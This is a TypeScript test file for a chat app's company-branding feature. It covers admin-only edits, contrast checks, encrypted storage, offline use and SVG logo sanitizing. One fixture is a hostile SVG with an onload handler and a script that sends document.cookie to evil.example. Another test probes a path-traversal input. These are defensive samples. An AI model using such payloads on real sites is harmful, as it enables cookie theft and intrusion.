/**
 * The company's branding in the real core: the IT admin's change reaches a colleague's device by
 * sync, with its files; the device keeps it encrypted, for the whole profile, and serves the
 * stylesheet and logo from there: before sign-in, after sign-out, and offline after a restart.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Branding, type BrandingSaved, brandingEntityId } from '@flurfunk/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DemoServer, TestCore } from '../support/core-harness.js';
import {
  expectError,
  readAllFiles,
  removeTempDirs,
  startDemoServer,
  tempDir,
  testCores,
} from '../support/core-harness.js';
import { makePng, sha256 } from '../support/file-support.js';

let server: DemoServer;
const cores = testCores();

beforeAll(async () => {
  server = await startDemoServer();
});

afterAll(async () => {
  await cores.closeAll();
  await server?.stop();
  await removeTempDirs();
});

const started = (dataDir?: string, defaultServerUrl: string | null = null) =>
  cores.start(dataDir, { defaultServerUrl });
const signedIn = (username: string) => cores.signedIn(server.url, username);

const brandFile = async (test: TestCore, path: string) => {
  const result = await test.core.readAppearanceFile(path);
  if (!result.ok) throw new Error(`${path}: ${result.error.code}`);
  return {
    mediaType: result.value.mediaType,
    text: Buffer.from(result.value.bytes).toString('utf8'),
    bytes: Buffer.from(result.value.bytes),
  };
};

const hostileLogo = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="10" height="10" fill="#7a1f5c"/>
  <image xlink:href="https://evil.example/track.png" width="1" height="1"/>
</svg>`;

const acme = {
  appName: 'Acme Funk',
  primaryColor: '#7a1f5c',
  accentColor: '#c2410c',
  fontFamily: null,
  fontFallback: ['Segoe UI'],
};

describe('company branding on the device', () => {
  let admin: TestCore;
  let lena: TestCore;
  let logoId: string;

  it('is the built-in branding until the company sets one, with an empty stylesheet', async () => {
    lena = await signedIn('lena.weber');
    expect(await lena.call('getBranding')).toMatchObject({ appName: 'Flurfunk', revision: 0, logo: null });
    expect(await brandFile(lena, '/appearance.css')).toMatchObject({ text: '' });
  });

  it('refuses the branding screen’s changes from anyone but an IT admin', async () => {
    await expectError(lena.callRaw('saveBrandingSettings', acme), 'forbidden');
    const upload = await lena.core.uploadBrandAsset('logo', { mediaType: 'image/png', bytes: makePng(8, 8) });
    expect(upload).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect((await lena.call('getBranding')).revision).toBe(0);
  });

  it('takes the admin’s colours at once on the admin’s device, and says what dark mode lightens', async () => {
    admin = await signedIn('admin');
    const saved = (await admin.call('saveBrandingSettings', acme)) as BrandingSaved;
    expect(saved.branding).toMatchObject({ ...acme, revision: 1 });
    // The orange accent stands out on dark surfaces as it is; the dark purple does not.
    expect(saved.adjustments.map((a) => a.field)).toEqual(['primaryColor']);
    expect(await admin.call('getBranding')).toMatchObject({ appName: 'Acme Funk', revision: 1 });
    const css = await brandFile(admin, '/appearance.css');
    expect(css.mediaType).toBe('text/css');
    expect(css.text).toContain('--ff-color-accent: light-dark(#7a1f5c, ');
    expect(css.text).toContain('--ff-font: "Segoe UI", system-ui');
  });

  it('refuses a colour that fails contrast, naming the field, and keeps the branding as it was', async () => {
    const refused = await admin.callRaw('saveBrandingSettings', { ...acme, primaryColor: '#ffcc00' });
    expect(refused.ok).toBe(false);
    expect((await admin.call('getBranding')).primaryColor).toBe('#7a1f5c');
  });

  it('sanitizes a hostile SVG logo and brings it to a colleague’s device by sync', async () => {
    const upload = await admin.core.uploadBrandAsset('logo', {
      mediaType: 'image/svg+xml',
      bytes: Buffer.from(hostileLogo),
    });
    if (!upload.ok) throw new Error(upload.error.message);
    const logo = upload.value.branding.logo!;
    logoId = logo.id;
    expect(logo.mediaType).toBe('image/svg+xml');

    await lena.call('syncNow');
    const changed = (await lena.waitForEvent(
      'brandingChanged',
      (payload) => (payload as Branding).logo?.id === logoId,
    )) as Branding;
    expect(changed).toMatchObject({ appName: 'Acme Funk', primaryColor: '#7a1f5c' });
    const served = await brandFile(lena, `/branding/${logoId}`);
    expect(served.mediaType).toBe('image/svg+xml');
    expect(sha256(served.bytes)).toBe(logoId);
    expect(served.text).toContain('<rect');
    expect(served.text).not.toMatch(/<script|onload|evil\.example/i);
    expect((await brandFile(lena, '/appearance.css')).text).toContain(
      `--ff-brand-logo: url("/branding/${logoId}")`,
    );
  });

  it('keeps the branding encrypted on disk', async () => {
    const files = await readAllFiles(join(lena.dataDir, 'branding'));
    expect(files.length).toBeGreaterThanOrEqual(2);
    for (const { bytes } of files) {
      expect(bytes.includes('Acme Funk')).toBe(false);
      expect(bytes.includes('<svg')).toBe(false);
      expect(bytes.includes('7a1f5c')).toBe(false);
    }
  });

  it('serves no file the branding does not name, and nothing outside its folder', async () => {
    for (const path of [
      `/branding/${'0'.repeat(64)}`,
      '/branding/../cache',
      '/branding/x',
      '/branding.json',
    ]) {
      expect((await lena.core.readAppearanceFile(path)).ok).toBe(false);
    }
  });

  it('stays after sign-out, for the login screen', async () => {
    await lena.call('logout');
    expect(await lena.call('getBranding')).toMatchObject({ appName: 'Acme Funk', revision: 2 });
    expect((await brandFile(lena, `/branding/${logoId}`)).text).toContain('<rect');
  });

  it('is there at once after a restart with the server gone, logo and all', async () => {
    const dataDir = lena.dataDir;
    await lena.core.close();
    await server.stop();
    try {
      const restarted = await started(dataDir);
      expect(await restarted.call('getBranding')).toMatchObject({ appName: 'Acme Funk', revision: 2 });
      expect((await brandFile(restarted, '/appearance.css')).text).toContain('#7a1f5c');
      expect((await brandFile(restarted, `/branding/${logoId}`)).text).toContain('<rect');
      await restarted.core.close();
    } finally {
      await server.start();
    }
  });

  it('is fetched without signing in from the server a new device is pointed at', async () => {
    const fresh = await started(undefined, server.url);
    const branding = (await fresh.waitForEvent('brandingChanged')) as Branding;
    expect(branding).toMatchObject({ appName: 'Acme Funk', logo: { id: logoId } });
    expect((await fresh.call('getSession')).status).toBe('signedOut');
    expect((await brandFile(fresh, `/branding/${logoId}`)).text).toContain('<rect');
  });

  it('falls back to the built-in branding when its file was tampered with, and heals from the server', async () => {
    const dataDir = await tempDir('core');
    const first = await started(dataDir, server.url);
    await first.waitForEvent('brandingChanged');
    await first.core.close();
    const stored = join(dataDir, 'branding', brandingEntityId);
    const altered = await readFile(stored);
    altered[altered.length - 20]! ^= 0xff;
    await writeFile(stored, altered);

    const restarted = await started(dataDir, server.url);
    const healed = (await restarted.waitForEvent('brandingChanged')) as Branding;
    expect(healed.appName).toBe('Acme Funk');
    expect(await restarted.call('getBranding')).toMatchObject({ appName: 'Acme Funk' });
  });

  it('drops the old logo’s file when the admin replaces it, and serves the new one', async () => {
    const png = makePng(16, 16);
    const upload = await admin.core.uploadBrandAsset('logo', { mediaType: 'image/png', bytes: png });
    if (!upload.ok) throw new Error(upload.error.message);
    expect(upload.value.branding.logo).toMatchObject({ id: sha256(png), mediaType: 'image/png' });
    expect((await admin.core.readAppearanceFile(`/branding/${logoId}`)).ok).toBe(false);
    expect((await brandFile(admin, `/branding/${sha256(png)}`)).bytes.equals(png)).toBe(true);

    const removed = (await admin.call('removeBrandAsset', { slot: 'logo' })) as BrandingSaved;
    expect(removed.branding.logo).toBeNull();
    expect((await brandFile(admin, '/appearance.css')).text).not.toContain('--ff-brand-logo');
  });
});
